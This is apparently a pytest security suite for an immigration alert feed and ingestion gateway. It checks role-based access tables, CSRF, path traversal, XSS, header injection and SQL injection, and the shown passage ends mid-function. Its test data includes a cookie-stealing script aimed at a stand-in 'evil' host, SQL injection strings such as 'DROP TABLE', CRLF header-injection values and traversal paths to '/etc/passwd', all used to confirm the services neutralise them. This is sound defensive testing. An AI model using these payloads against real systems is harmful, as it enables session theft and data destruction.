"""Security of the services as they run: who may reach what (the access policy of the feed and of the
gateway, written down as tables below and walked route by route, role by role), injection into
filters, pages, headers, paths and SQL (on the ClickHouse server and on chdb), and a privacy scan of
every column of every table after a simulation has gone through gateway, detector worker, feed and
sink.
"""

from __future__ import annotations

import json
import re
import urllib.error
import urllib.parse
import urllib.request
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import orjson
import pytest
from aiohttp import web
from click.testing import CliRunner
from conftest import HOTEL, RunningGateway, gateway_settings, make_topics, write_keys
from prometheus_client import REGISTRY
from test_feed import PASSWORD, TOKEN, Client, alert, feed, free_port, publish, wait_for
from test_reports_server import DATA
from test_sink import (
    drain,
    identity_pattern,
    on_topics,
    replay_lines,
    simulation,
    sink_settings,
    store,
)

from connectors.feed.app import HEADERS, build_feed, person_history
from connectors.feed.board import AlertBoard
from connectors.feed.serve import FeedThread
from connectors.feed.users import User, UserStore, hash_password, token_hash
from connectors.gateway.app import build_app
from connectors.gateway.keys import KeyRing
from connectors.pipeline import alerts_when_settled, detector_workers
from connectors.samples import AGENCY, CHECKPOINTS, SPONSOR, SampleFactory
from connectors.sink.localserver import ClickHouseServer
from connectors.sink.migrate import migrate
from connectors.sink.reports import REPORTS, ReportError, run_report, sql_string
from connectors.sink.store import ChdbStore, ServerStore, Store
from connectors.sink.tables import TABLES
from streams import topics as topic_names
from streams.cli import main as pora
from streams.detect.alerts import Evidence, Finding, alert_record
from streams.reading import read_topic
from streams.settings import Settings

__all__ = ["feed", "store"]  # fixtures of test_feed and test_sink, used here by name

# ====================================================================== the feed: access policy

FEED_ROLES = ("anon", "admin", "sup_a", "sup_b", "agency", "token", "bad_token")
API_TOKEN = "tok-api-batam-0123456789abcdef"
# who each role is: anon sends nothing; bad_token sends a bearer token nobody has
FEED_USERS = {
    "admin": User("admin", "admin", frozenset(), frozenset(), hash_password(PASSWORD)),
    "sup_a": User("sup-batam", "supervisor", frozenset({"KANIM-BATAM"}), frozenset(), hash_password(PASSWORD)),
    "sup_b": User("sup-medan", "supervisor", frozenset({"KANIM-MEDAN"}), frozenset(), hash_password(PASSWORD)),
    "agency": User(  # a Timpora member agency: Batam's screenings and sponsor rosters only
        "polda-kepri",
        "agency",
        frozenset({"KANIM-BATAM"}),
        frozenset({"tppo.screening", "sponsor.roster_mismatch"}),
        hash_password(PASSWORD),
    ),
    # an API client (a script of office A): a token, no password
    "token": User("api-batam", "supervisor", frozenset({"KANIM-BATAM"}), frozenset(), "", token_hash(API_TOKEN)),
}
COOKIE_ROLES = ("admin", "sup_a", "sup_b", "agency")

# The access policy of the feed. Each row is one request, each column the status that role gets.
# "as-self": the role logs in with its own name and password (anon: a wrong one; the token user has
# no password). Actions carry the session's CSRF token unless the row says no-csrf (a token user
# never needs one: no cookie, nothing for another site to ride on). Alerts: a_* in office A
# (KANIM-BATAM: an overstay, a TPPO screening, a sponsor roster mismatch naming foreigners by
# person key), b_* in office B (KANIM-MEDAN), unknown never existed. Another office's alert is a
# 404 like an unknown one, never a 403, so its id is not confirmed.
FEED_POLICY = """
request                                            anon admin sup_a sup_b agency token bad_token
GET    /healthz                                     200  200   200   200   200    200   401
GET    /readyz                                      200  200   200   200   200    200   401
GET    /metrics                                     200  200   200   200   200    200   401
GET    /openapi.json                                200  200   200   200   200    200   401
GET    /static/feed.js                              200  200   200   200   200    200   401
GET    /login                                       200  200   200   200   200    200   401
POST   /login as-self                               401  303   303   303   303    401   401
POST   /logout                                      303  303   303   303   303    303   401
POST   /logout no-csrf                              303  403   403   403   403    303   401
GET    /                                            303  200   200   200   200    200   401
GET    /?office=KANIM-MEDAN&status=OPEN             303  200   200   200   200    200   401
GET    /alerts/{a_overstay}                         303  200   200   404   404    200   401
GET    /alerts/{a_tppo}                             303  200   200   404   200    200   401
GET    /alerts/{a_roster}                           303  200   200   404   200    200   401
GET    /alerts/{b_overstay}                         303  200   404   200   404    404   401
GET    /alerts/{unknown}                            303  404   404   404   404    404   401
POST   /alerts/{a_tppo}/actions comment             303  303   303   404   303    303   401
POST   /alerts/{a_tppo}/actions comment,no-csrf     303  403   403   403   403    303   401
POST   /alerts/{b_overstay}/actions comment         303  303   404   303   404    404   401
GET    /stream                                      401  200   200   200   200    200   401
GET    /api/alerts                                  401  200   200   200   200    200   401
GET    /api/alerts?office=KANIM-MEDAN               401  200   200   200   200    200   401
GET    /api/alerts/{a_overstay}                     401  200   200   404   404    200   401
GET    /api/alerts/{a_tppo}                         401  200   200   404   200    200   401
GET    /api/alerts/{a_roster}                       401  200   200   404   200    200   401
GET    /api/alerts/{b_overstay}                     401  200   404   200   404    404   401
GET    /api/alerts/{unknown}                        401  404   404   404   404    404   401
POST   /api/alerts/{a_tppo}/actions comment         401  201   201   404   201    201   401
POST   /api/alerts/{a_tppo}/actions comment,no-csrf 401  403   403   403   403    201   401
POST   /api/alerts/{a_tppo}/actions resolve         401  201   201   404   403    201   401
POST   /api/alerts/{b_overstay}/actions acknowledge 401  201   404   201   404    404   401
GET    /api/counts                                  401  200   200   200   200    200   401
GET    /openapi.json/../api/alerts                  404  404   404   404   404    404   401
GET    /static/../app.py                            404  404   404   404   404    404   401
GET    /static/..%2f..%2f..%2fstreams/settings.py   404  404   404   404   404    404   401
GET    /static/%2e%2e/users.py                      404  404   404   404   404    404   401
GET    /healthz/../api/alerts                       404  404   404   404   404    404   401
GET    /login/..%2fapi/alerts                       404  404   404   404   404    404   401
GET    /no-such-page                                404  404   404   404   404    404   401
DELETE /api/alerts/{a_overstay}                     405  405   405   405   405    405   401
"""


def parse_policy(text: str) -> tuple[tuple[str, ...], dict[str, dict[str, str]]]:
    """(roles, {request: {role: expected}}) from a policy table (the header row names the roles)."""
    header, *rows = [line.split() for line in text.strip().splitlines()]
    roles = tuple(header[1:])
    policy = {}
    for cells in rows:
        request, codes = " ".join(cells[: -len(roles)]), cells[-len(roles) :]
        assert request not in policy, f"{request} twice"
        policy[request] = dict(zip(roles, codes, strict=True))
    return roles, policy


_FEED_ROLES_IN_TABLE, FEED_TABLE = parse_policy(FEED_POLICY)
assert _FEED_ROLES_IN_TABLE == FEED_ROLES


def person(c: str) -> str:
    return "pk_" + c * 32


def roster_alert(office: str, *keys: str) -> dict[str, Any]:
    finding = Finding(
        "sponsor.roster_mismatch",
        f"spr-{uuid.uuid4().hex[:6]}",
        "HIGH",
        office,
        {"sponsor_id": "SPN-BTM-0001"},
        ["PT Galangan Batam reported 3 foreigners; permits name it as sponsor of 4"],
        [*(Evidence("omitted", k) for k in keys), Evidence("omitted_count", str(len(keys)))],
    )
    now = 1_790_000_000_000
    return alert_record(finding, status="RAISED", step=0, version="test", at=now, emitted_at=now)


# An alert whose every text field came from someone trying to inject markup into the pages
XSS = {
    "reason": '<script>alert("reason")</script>',
    "establishment": "EST-<img src=x onerror=alert(1)>",
    "evidence": '"><svg onload=alert(2)>',
    "comment": "<script>document.location='//evil/'+document.cookie</script>",
    "assignee": "<iframe src=javascript:alert(3)>",
}
RAW_MARKUP = (b"<script>", b"<img src=x", b"<svg onload", b"<iframe")


def xss_alert() -> dict[str, Any]:
    finding = Finding(
        "tppo.screening",
        f"dep-{uuid.uuid4().hex[:6]}",
        "HIGH",
        "KANIM-BATAM",
        {"person_key": person("d"), "establishment_id": XSS["establishment"]},
        [XSS["reason"], "checked in at Hotel <b>Harmoni</b> & Spa"],
        [Evidence("risk_destination", XSS["evidence"], weight=2.0)],
    )
    now = 1_790_000_000_000
    return alert_record(finding, status="RAISED", step=0, version="test", at=now, emitted_at=now)


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args: Any, **kwargs: Any) -> None:
        return None  # the 303 itself is the answer under test


class RawClient(Client):
    """test_feed's Client that does not follow redirects, sends its own headers on every request
    (a bearer token), and takes any method and a path as it is written (``..`` and all)."""

    def __init__(self, base: str, headers: dict[str, str] | None = None) -> None:
        super().__init__(base)
        self.opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(self.jar), NoRedirect())
        self.headers = headers or {}

    def request(
        self, path: str, data: bytes | None = None, headers: dict[str, str] | None = None, method: str | None = None
    ) -> tuple[int, bytes, dict[str, str]]:
        req = urllib.request.Request(self.base + path, data=data, headers={**self.headers, **(headers or {})})
        if method:
            req.method = method
        try:
            with self.opener.open(req, timeout=30) as resp:
                return resp.status, resp.read(), dict(resp.headers)
        except urllib.error.HTTPError as err:
            return err.code, err.read(), dict(err.headers)

    def first_line(self, path: str) -> tuple[int, bytes, dict[str, str]]:
        """An endless answer (the event stream): its status, first line and headers."""
        req = urllib.request.Request(self.base + path, headers=self.headers)
        try:
            with self.opener.open(req, timeout=30) as resp:
                return resp.status, resp.readline(), dict(resp.headers)
        except urllib.error.HTTPError as err:
            return err.code, err.read(), dict(err.headers)

    def cookie(self) -> str:
        return next(str(c.value) for c in self.jar if c.name == "pora_session")


@dataclass
class MatrixFeed:
    feed: FeedThread
    alerts: dict[str, dict[str, Any]]  # a_overstay, a_tppo, a_roster, b_overstay, xss -> record
    clients: dict[str, RawClient] = field(default_factory=dict)
    csrf: dict[str, str] = field(default_factory=dict)

    def client(self, role: str, *, fresh: bool = False) -> RawClient:
        """The role's client, logged in (``fresh``: a session of its own, for log-in and log-out)."""
        if not fresh and role in self.clients:
            return self.clients[role]
        headers = {"token": {"Authorization": f"Bearer {API_TOKEN}"}, "bad_token": {"Authorization": "Bearer no-such"}}
        c = RawClient(self.feed.url, headers.get(role))
        if role in COOKIE_ROLES:
            assert c.login(FEED_USERS[role].name) == 303
        if not fresh:
            self.clients[role] = c
            if role in COOKIE_ROLES:
                self.csrf[role] = c.csrf()
        return c


@pytest.fixture(scope="module")
def matrix_feed(kafka_bootstrap: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[MatrixFeed]:
    """A feed with a user of each role and alerts of two offices, on topics of this module's own."""
    prefix = f"t-{uuid.uuid4().hex[:8]}."
    make_topics(kafka_bootstrap, prefix)
    settings = Settings(
        kafka_bootstrap=kafka_bootstrap,
        topic_prefix=prefix,
        state_dir=tmp_path_factory.mktemp("feed"),
        feed_port=free_port(),
    )
    users = UserStore()
    for user in FEED_USERS.values():
        users.add(user)
    alerts = {
        "a_overstay": alert("overstay", "KANIM-BATAM", person("a"), "2026-11-01"),
        "a_tppo": alert("tppo.screening", "KANIM-BATAM", person("b"), "dep-1", ["one-way ticket (+2)"]),
        "a_roster": roster_alert("KANIM-BATAM", person("e"), person("f")),
        "b_overstay": alert("overstay", "KANIM-MEDAN", person("c"), "2026-11-01"),
        "xss": xss_alert(),
    }
    board = AlertBoard()
    for record in alerts.values():
        board.apply_alert(record)

    def history(key: str) -> tuple[list[tuple[str, ...]], list[tuple[str, ...]]]:
        return [("2026-11-01 10:00:00", "ARRIVAL", "TPI-<b>X</b>", "")], []  # markup from ClickHouse, too

    with FeedThread(settings, users, board=board, follow_topics=False, history=history) as f:
        yield MatrixFeed(f, alerts)


# which alerts each role may see (the policy's alert rows, once more, as sets)
VISIBLE = {
    "admin": {"a_overstay", "a_tppo", "a_roster", "b_overstay", "xss"},
    "sup_a": {"a_overstay", "a_tppo", "a_roster", "xss"},
    "sup_b": {"b_overstay"},
    "agency": {"a_tppo", "a_roster", "xss"},
    "token": {"a_overstay", "a_tppo", "a_roster", "xss"},
}
NO_SUCH_ALERT = {"type": "about:blank", "title": "Not found", "status": 404, "detail": "no such alert"}


def _feed_call(m: MatrixFeed, request: str, role: str) -> tuple[int, bytes, dict[str, str]]:
    method, target, *variant = request.split()
    flags = set(variant[0].split(",")) if variant else set()
    ids = {name: r["alert_id"] for name, r in m.alerts.items()} | {"unknown": "AL-" + "0" * 24}
    path = target.format(**ids)
    if request == "POST /login as-self":
        name = FEED_USERS[role].name if role in FEED_USERS else "nobody"
        password = PASSWORD if role != "anon" else "wrong"
        c = m.client(role, fresh=True) if role in ("token", "bad_token") else RawClient(m.feed.url)
        status, body, headers = c.request(path, f"name={name}&password={password}".encode())
        if status == 303:
            cookie = headers["Set-Cookie"]
            assert "HttpOnly" in cookie and "SameSite=Strict" in cookie, cookie
        return status, body, headers
    if path == "/logout":
        c = m.client(role, fresh=True)
        token = c.csrf() if role in COOKIE_ROLES and "no-csrf" not in flags else ""
        before = c.cookie() if role in COOKIE_ROLES else ""
        status, body, headers = c.request(path, f"csrf={token}".encode())
        if status == 303 and role in COOKIE_ROLES:  # the session ended: even a copy of its cookie is refused
            copy = RawClient(m.feed.url, {"Cookie": f"pora_session={before}"})
            assert copy.request("/api/alerts")[0] == 401
        return status, body, headers
    c = m.client(role)
    if path == "/stream":
        return c.first_line(path)
    if method in ("GET", "DELETE"):
        return c.request(path, method=method)
    csrf = {} if "no-csrf" in flags or role not in COOKIE_ROLES else {"csrf": m.csrf[role]}
    action = {
        "comment": {"action": "COMMENT", "comment": f"matrix {role}"},
        "resolve": {"action": "RESOLVE", "disposition": "REFERRED"},
        "acknowledge": {"action": "ACKNOWLEDGE"},
    }[variant[0].split(",")[0]]
    if path.startswith("/api/"):
        headers = {"Content-Type": "application/json"} | ({"X-CSRF-Token": csrf["csrf"]} if csrf else {})
        return c.request(path, json.dumps(action).encode(), headers)
    return c.request(path, urllib.parse.urlencode({**action, **csrf}).encode())


@pytest.mark.parametrize(("request_", "role"), [(r, role) for r in FEED_TABLE for role in FEED_ROLES])
def test_feed_access_policy(matrix_feed: MatrixFeed, request_: str, role: str) -> None:
    expected = int(FEED_TABLE[request_][role])
    status, body, headers = _feed_call(matrix_feed, request_, role)
    assert status == expected, f"{request_} as {role}: {status} (policy: {expected}) {body[:300]!r}"
    for name, value in HEADERS.items():  # on every answer: pages, problems, redirects, 404s, the stream
        if name == "Cache-Control":  # the script and the stream may be cached by nobody but the browser
            assert headers.get(name) in ("no-store", "no-cache"), headers
        else:
            assert headers.get(name) == value, (name, headers)
    ids = {name: r["alert_id"].encode() for name, r in matrix_feed.alerts.items()}
    if status in (200, 201):
        for name in ids.keys() - VISIBLE.get(role, set()):
            assert ids[name] not in body, f"{role} was shown {name}"
        if role == "agency":
            assert not re.search(rb"pk_[0-9a-f]{8}", body), body[:500]
    if status == 404 and "/alerts/" in request_:  # another office's alert is not there, like an unknown one
        assert json.loads(body) == NO_SUCH_ALERT
    if request_ == "GET /stream" and status == 200:
        assert body.startswith(b": connected")


def routes(app: web.Application) -> set[tuple[str, str]]:
    found = {(r.method, r.resource.canonical) for r in app.router.routes() if r.resource is not None}
    return {(method, canonical) for method, canonical in found if method != "HEAD"}


def test_every_route_of_the_feed_is_in_the_policy(tmp_path: Path) -> None:
    app = build_feed(Settings(state_dir=tmp_path), UserStore(), follow_topics=False, history=lambda key: ([], []))
    in_table = set()
    for request in FEED_TABLE:
        method, target = request.split()[:2]
        in_table.add((method, re.sub(r"\{[a-z_]+\}", "{alert_id}", target.split("?")[0])))
    assert routes(app) <= in_table, f"routes without a row in FEED_POLICY: {sorted(routes(app) - in_table)}"


# ====================================================================== the feed: the live stream


def _open_stream(c: Client, headers: dict[str, str] | None = None) -> Any:
    req = urllib.request.Request(c.base + "/stream", headers=headers or {})
    stream = c.opener.open(req, timeout=30)
    assert stream.readline().startswith(b": connected")
    return stream


def _read_until(stream: Any, wanted: set[str]) -> list[dict[str, Any]]:
    """Alert events until every id in ``wanted`` came (each frame: one event line, one data line)."""
    events: list[dict[str, Any]] = []
    pending = set(wanted)
    while pending:
        line = stream.readline()
        if not line.strip() or line.startswith(b":"):
            continue
        assert line == b"event: alert\n", line  # nothing an alert holds can start another event
        data = stream.readline()
        assert data.startswith(b"data: ") and data.endswith(b"\n"), data
        assert stream.readline() == b"\n"
        events.append(json.loads(data[6:]))
        pending.discard(events[-1]["alert_id"])
    return events


def test_the_stream_delivers_only_what_each_user_may_see(
    feed: FeedThread, kafka_bootstrap: str, topics: dict[str, str]
) -> None:
    assert RawClient(feed.url).first_line("/stream")[0] == 401
    assert RawClient(feed.url, {"Authorization": "Bearer nope"}).first_line("/stream")[0] == 401
    viewers: dict[str, tuple[Client, dict[str, str]]] = {}
    for name in ("sup-batam", "sup-medan", "polda", "admin"):
        c = Client(feed.url)
        assert c.login(name) == 200
        viewers[name] = (c, {})
    viewers["admin-token"] = (Client(feed.url), {"Authorization": f"Bearer {TOKEN}"})
    streams = {name: _open_stream(c, headers) for name, (c, headers) in viewers.items()}
    try:
        injected = "one-way ticket\n\nevent: reload\ndata: {}\n\n"  # a reason trying to end the frame
        mixed = [
            alert("overstay", "KANIM-BATAM", person("1"), "w-1"),
            alert("tppo.screening", "KANIM-BATAM", person("2"), "w-2", [injected, f"same agent as {person('9')}"]),
            alert("overstay", "KANIM-MEDAN", person("3"), "w-3"),
            alert("tppo.screening", "KANIM-MEDAN", person("4"), "w-4"),
            roster_alert("KANIM-BATAM", person("5")),
        ]
        publish(kafka_bootstrap, topics["alerts"], mixed)
        board = feed.board
        assert board is not None
        wait_for(lambda: all(a["alert_id"] in board.alerts for a in mixed), "the alerts on the board")
        # then one last alert per office: once a stream has it, it has had everything before it
        last = [
            alert("tppo.screening", "KANIM-BATAM", person("6"), "w-6"),
            alert("overstay", "KANIM-MEDAN", person("7"), "w-7"),
        ]
        publish(kafka_bootstrap, topics["alerts"], last)
        every = [*mixed, *last]
        may = {
            "sup-batam": {0, 1, 4, 5},
            "sup-medan": {2, 3, 6},
            "polda": {1, 5},  # Batam, tppo.screening only
            "admin": set(range(7)),
            "admin-token": set(range(7)),
        }
        for name, stream in streams.items():
            expected = {every[i]["alert_id"] for i in may[name]}
            wanted = {a["alert_id"] for a in last if a["alert_id"] in expected}
            got = _read_until(stream, wanted)
            assert {e["alert_id"] for e in got} == expected, name
            if name == "polda":
                assert "pk_" not in json.dumps(got), got
            else:
                assert any(e["subject"].get("person_key") for e in got)
    finally:
        for stream in streams.values():
            stream.close()


# ====================================================================== the gateway: access policy

GATEWAY_ROLES = ("none", "wrong", "hotel", "checkpoint", "sponsor", "agency", "office", "system")

# The access policy of the gateway. Each row is one request, each column the key it is sent with
# (none; a key nobody has; then one key of each kind of source, from conftest's SOURCES: each bound
# to its establishment, checkpoint, sponsor, agency or office; system may post for anyone). "own":
# an event for what the key is bound to; "other": for another establishment, checkpoint, sponsor,
# agency or office. A "*" after the status: the refused request is on the dead-letter topic (with
# the key's source id). Unauthenticated bodies are neither read nor dead-lettered.
GATEWAY_POLICY = """
request                                  none wrong hotel checkpoint sponsor agency office system
GET  /healthz                            200  200   200   200        200     200    200    200
GET  /readyz                             200  200   200   200        200     200    200    200
GET  /metrics                            200  200   200   200        200     200    200    200
GET  /openapi.json                       200  200   200   200        200     200    200    200
GET  /problems/forbidden                 200  200   200   200        200     200    200    200
POST /v1/events/hotel-guest-events own   401  401   200   403*       403*    403*   403*   200
POST /v1/events/hotel-guest-events other 401  401   403*  403*       403*    403*   403*   200
POST /v1/events/border-crossings own     401  401   403*  200        403*    403*   403*   200
POST /v1/events/border-crossings other   401  401   403*  403*       403*    403*   403*   200
POST /v1/events/sponsor-reports own      401  401   403*  403*       200     403*   403*   200
POST /v1/events/sponsor-reports other    401  401   403*  403*       403*    403*   403*   200
POST /v1/events/agency-reports own       401  401   403*  403*       403*    200    403*   200
POST /v1/events/agency-reports other     401  401   403*  403*       403*    403*   403*   200
POST /v1/events/permit-updates own       401  401   403*  403*       403*    403*   200    200
POST /v1/events/permit-updates other     401  401   403*  403*       403*    403*   403*   200
POST /v1/registers/hotel-guests own      401  401   200   403*       403*    403*   403*   403*
POST /v1/events/no-such-kind own         404  404   404   404        404     404    404    404
GET  /v1/events/hotel-guest-events       405  405   405   405        405     405    405    405
GET  /v1/events/../../healthz            404  404   404   404        404     404    404    404
GET  /no-such-path                       404  404   404   404        404     404    404    404
"""
_GATEWAY_ROLES_IN_TABLE, GATEWAY_TABLE = parse_policy(GATEWAY_POLICY)
assert _GATEWAY_ROLES_IN_TABLE == GATEWAY_ROLES


def _event(slug: str, which: str, marker: str) -> Any:
    """A valid event of ``slug`` for the bound source ("own") or for another ("other")."""
    f = SampleFactory(seed=hash(marker) % 1000)
    own = which == "own"
    if slug == "hotel-guest-events":
        event = f.hotel_check_in(HOTEL if own else {**HOTEL, "establishment_id": "EST-DPS-0001"})
    elif slug == "border-crossings":
        event = f.arrival(CHECKPOINTS[0] if own else CHECKPOINTS[1])
    elif slug == "sponsor-reports":
        event = {**f.sponsor_report(), "sponsor": SPONSOR if own else {**SPONSOR, "sponsor_id": "SPN-OTHER"}}
    elif slug == "agency-reports":
        event = {**f.agency_report(), "agency": AGENCY if own else {**AGENCY, "agency_id": "AGY-OTHER"}}
    else:
        event = {**f.permit_extension(), "office": "KANIM-BATAM" if own else "KANIM-MEDAN"}
    event["event_id"] = marker
    return event


def _register(marker: str) -> bytes:
    g = SampleFactory(seed=1).identity("GBR")
    return (
        "event_id,occurred_at,nationality,document_number,surname,given_names,check_in_date\n"
        f"{marker},2026-11-01 10:00,GBR,{g['document_number']},{g['surname']},{g['given_names']},2026-11-01\n"
    ).encode()


def _dead_letters_total() -> float:
    return sum(s.value for m in REGISTRY.collect() for s in m.samples if s.name == "pora_dead_letters_total")


@pytest.fixture(scope="module")
def matrix_gateway(kafka_bootstrap: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningGateway]:
    prefix = f"t-{uuid.uuid4().hex[:8]}."
    make_topics(kafka_bootstrap, prefix)
    settings = gateway_settings(kafka_bootstrap, prefix, tmp_path_factory.mktemp("gateway"))
    gw = RunningGateway(settings, write_keys(settings.keys_file)).start()
    yield gw
    gw.stop()


@pytest.mark.parametrize(("request_", "role"), [(r, role) for r in GATEWAY_TABLE for role in GATEWAY_ROLES])
def test_gateway_access_policy(matrix_gateway: RunningGateway, request_: str, role: str) -> None:
    gw = matrix_gateway
    cell = GATEWAY_TABLE[request_][role]
    expected, dead_lettered = int(cell.rstrip("*")), cell.endswith("*")
    method, path, *which = request_.split()
    key = {"none": "", "wrong": "pora_not-a-key"}[role] if role in ("none", "wrong") else gw.keys[role]
    marker = f"mx-{uuid.uuid4().hex[:12]}"
    before = _dead_letters_total()
    if method == "GET":
        headers = {"Authorization": f"Bearer {key}"} if key else {}
        req = urllib.request.Request(gw.url + path, headers=headers)
        try:
            with urllib.request.urlopen(req, timeout=30) as resp:
                status = resp.status
        except urllib.error.HTTPError as err:
            status = err.code
    elif path == "/v1/registers/hotel-guests":
        status, _, _ = gw.post(path, _register(marker), content_type="text/csv", source=None, key=key)
    else:
        slug = path.rsplit("/", 1)[1]
        status, body, _ = gw.post(path, _event(slug, which[0], marker), source=None, key=key)
        if status == 200:
            assert body["receipts"][0]["client_event_id"] == marker
    assert status == expected, f"{request_} with the {role} key: {status} (policy: {cell})"
    written = _dead_letters_total() - before
    assert written == (1 if dead_lettered else 0), f"{written} dead letters (policy: {cell})"
    if dead_lettered:
        letters = read_topic(gw.settings.kafka_bootstrap, gw.settings.topic(topic_names.DEAD_LETTERS))
        mine = [r.record for r in letters if r.record is not None and marker.encode() in r.record["raw"]]
        assert [(m["source"], m["reason"]) for m in mine] == [(role, "forbidden")], mine


def test_every_route_of_the_gateway_is_in_the_policy(matrix_gateway: RunningGateway) -> None:
    settings = matrix_gateway.settings.model_copy(update={"gateway_workers": 0})
    app = build_app(settings, KeyRing.load(settings.keys_file))
    in_table = set()
    for request in GATEWAY_TABLE:
        method, target = request.split()[:2]
        target = re.sub(r"^/v1/events/[a-z-]+$", "/v1/events/{kind}", target)
        in_table.add((method, re.sub(r"^/problems/[a-z-]+$", "/problems/{name}", target)))
    assert routes(app) <= in_table, f"routes without a row in GATEWAY_POLICY: {sorted(routes(app) - in_table)}"


# ====================================================================== injection: the feed

SQL_INJECTIONS = ["x' OR 1=1 --", "x\\' OR 1=1 --", "'; DROP TABLE alerts; --", 'x" OR "1"="1', "\\", "%27 OR 1=1"]
MARKUP = ['<script>alert("f")</script>', '"><img src=x onerror=alert(1)>', "javascript:alert(1)"]
HEADER_INJECTION = "x\r\nSet-Cookie: evil=1\r\nX-Injected: yes"
HOSTILE = [*SQL_INJECTIONS, *MARKUP, HEADER_INJECTION, "2026-13-45", "../../etc/passwd", "é\u202e\x00"]


@pytest.mark.parametrize("name", ["office", "rule", "severity", "status", "since", "until", "limit"])
def test_feed_filters_refuse_or_match_nothing_and_echo_nothing_raw(matrix_feed: MatrixFeed, name: str) -> None:
    admin = matrix_feed.client("admin")
    for value in HOSTILE:
        query = "?" + urllib.parse.urlencode({name: value})
        for path in ("/", "/api/alerts", "/api/counts"):
            # text filters (office, rule, status) are compared, never parsed: they match nothing;
            # severity, days and the limit are checked (the limit is the list's alone)
            refused = name in ("severity", "since", "until") or (name == "limit" and path == "/api/alerts")
            status, body, headers = admin.request(path + query)
            assert status == (422 if refused else 200), (path, name, value, status, body[:200])
            assert "evil" not in json.dumps(headers) and "X-Injected" not in headers
            if refused:
                assert json.loads(body)["errors"][0]["field"] == name
            elif path == "/":
                assert not any(m in body for m in RAW_MARKUP), body
            elif name != "limit":
                found = json.loads(body)
                assert found.get("total", 0) == 0 and found.get("by_rule", {}) == {}, found


def test_markup_in_alerts_comments_and_history_is_shown_as_text(matrix_feed: MatrixFeed) -> None:
    admin = matrix_feed.client("admin")
    xss = matrix_feed.alerts["xss"]["alert_id"]
    for action in (
        {"action": "COMMENT", "comment": XSS["comment"]},
        {"action": "ASSIGN", "assignee": XSS["assignee"]},
    ):
        status, _, _ = admin.request(
            f"/api/alerts/{xss}/actions",
            json.dumps(action).encode(),
            {"Content-Type": "application/json", "X-CSRF-Token": matrix_feed.csrf["admin"]},
        )
        assert status == 201
    for path in ("/", f"/alerts/{xss}"):
        status, page, _ = admin.request(path)
        assert status == 200
        assert not any(m in page for m in RAW_MARKUP), path
        assert html_escaped(XSS["reason"]) in page  # the list shows the first reason
    _, detail, _ = admin.request(f"/alerts/{xss}")
    assert b"<b>Harmoni</b>" not in detail and b"&lt;b&gt;Harmoni&lt;/b&gt;" in detail
    for text in (XSS["reason"], XSS["establishment"], XSS["evidence"], XSS["comment"], XSS["assignee"]):
        assert html_escaped(text) in detail, text
    assert b"TPI-&lt;b&gt;X&lt;/b&gt;" in detail  # the person history (from ClickHouse) too
    status, raw, headers = admin.request(f"/api/alerts/{xss}")
    assert headers["Content-Type"].startswith("application/json") and headers["X-Content-Type-Options"] == "nosniff"
    assert json.loads(raw)["reasons"][0] == XSS["reason"]  # JSON keeps the text as it is: the page script
    # (feed.js) puts it in with textContent only (tests/unit/test_security_units.py)


def html_escaped(text: str) -> bytes:
    from html import escape

    return escape(text).encode()


def test_headers_and_odd_bytes_cannot_be_injected(matrix_feed: MatrixFeed) -> None:
    anon = RawClient(matrix_feed.feed.url)
    status, _, headers = anon.request(
        "/login", urllib.parse.urlencode({"name": HEADER_INJECTION, "password": "x"}).encode()
    )
    assert status == 401 and "X-Injected" not in headers and "evil" not in headers.get("Set-Cookie", "")
    # a CSRF token, a cookie or a bearer token of bytes that are not ASCII: refused, never an error 500
    admin = matrix_feed.client("admin")
    aid = matrix_feed.alerts["a_tppo"]["alert_id"]
    status, _, _ = admin.request(
        f"/api/alerts/{aid}/actions",
        b'{"action": "COMMENT"}',
        {"Content-Type": "application/json", "X-CSRF-Token": "é" * 40},
    )
    assert status == 403
    assert RawClient(matrix_feed.feed.url, {"Cookie": "pora_session=é.é"}).request("/api/alerts")[0] == 401
    assert RawClient(matrix_feed.feed.url, {"Authorization": "Bearer é"}).request("/api/alerts")[0] == 401
    # the redirect after a form action names the alert it acted on, whatever the path said
    spelled = urllib.parse.quote(aid + "\r\nX-Injected: yes", safe="")
    status, _, headers = admin.request(
        f"/alerts/{spelled}/actions",
        urllib.parse.urlencode({"action": "COMMENT", "csrf": matrix_feed.csrf["admin"]}).encode(),
    )
    assert status == 404 and "X-Injected" not in headers


# ====================================================================== injection: SQL, on both engines


def test_text_reaches_clickhouse_as_a_literal_and_comes_back_the_same(store: Store) -> None:
    corpus = [*SQL_INJECTIONS, *MARKUP, HEADER_INJECTION, "".join(map(chr, range(1, 32))) + "\x7f\x00", "ǅ ☃ 🚀"]
    corpus += ["\\x41\\N\\0\\'", "%(office)s {office:String} ? $1", "`backtick` \"double\" 'single'"]
    for text in corpus:
        assert store.query(f"SELECT {sql_string(text)} AS v").rows == [(text,)], repr(text)


def test_report_filters_are_values_not_sql(store: Store) -> None:
    DATA.load(store)
    db = store.database
    counts = {t.name: store.query(f"SELECT count() FROM {db}.{t.name}").rows[0][0] for t in TABLES.values()}
    assert run_report(store, "alert-funnel").rows  # there is something a filter could leak
    for name in REPORTS:
        for office in [*SQL_INJECTIONS, "KANIM-SH' OR '1'='1", "KANIM-SH\\' OR 1=1 --", "KANIM-SH\x00' OR 1=1 --"]:
            assert run_report(store, name, office=office, today=DATA.TODAY).rows == [], (name, office)
    assert run_report(store, "tppo-screening", office="KANIM-SH", today=DATA.TODAY).rows  # an office still filters
    for bad in ("2026-03-01' OR '1'='1", 20260301):
        with pytest.raises(ReportError, match="--from"):
            run_report(store, "alert-funnel", date_from=bad)  # type: ignore[arg-type]
    after = {t.name: store.query(f"SELECT count() FROM {db}.{t.name}").rows[0][0] for t in TABLES.values()}
    assert after == counts  # nothing dropped, nothing written


def _engine_env(store: Store, request: pytest.FixtureRequest, tmp_path: Path) -> dict[str, str]:
    if isinstance(store, ServerStore):
        server: ClickHouseServer = request.getfixturevalue("clickhouse_server")
        url = server.url
    else:
        url = f"chdb://{request.getfixturevalue('chdb_path')}"
    return {"PORA_STATE_DIR": str(tmp_path), "PORA_CLICKHOUSE_URL": url, "PORA_CLICKHOUSE_DATABASE": store.database}


def test_pora_report_options_are_values_not_sql(store: Store, request: pytest.FixtureRequest, tmp_path: Path) -> None:
    DATA.load(store)
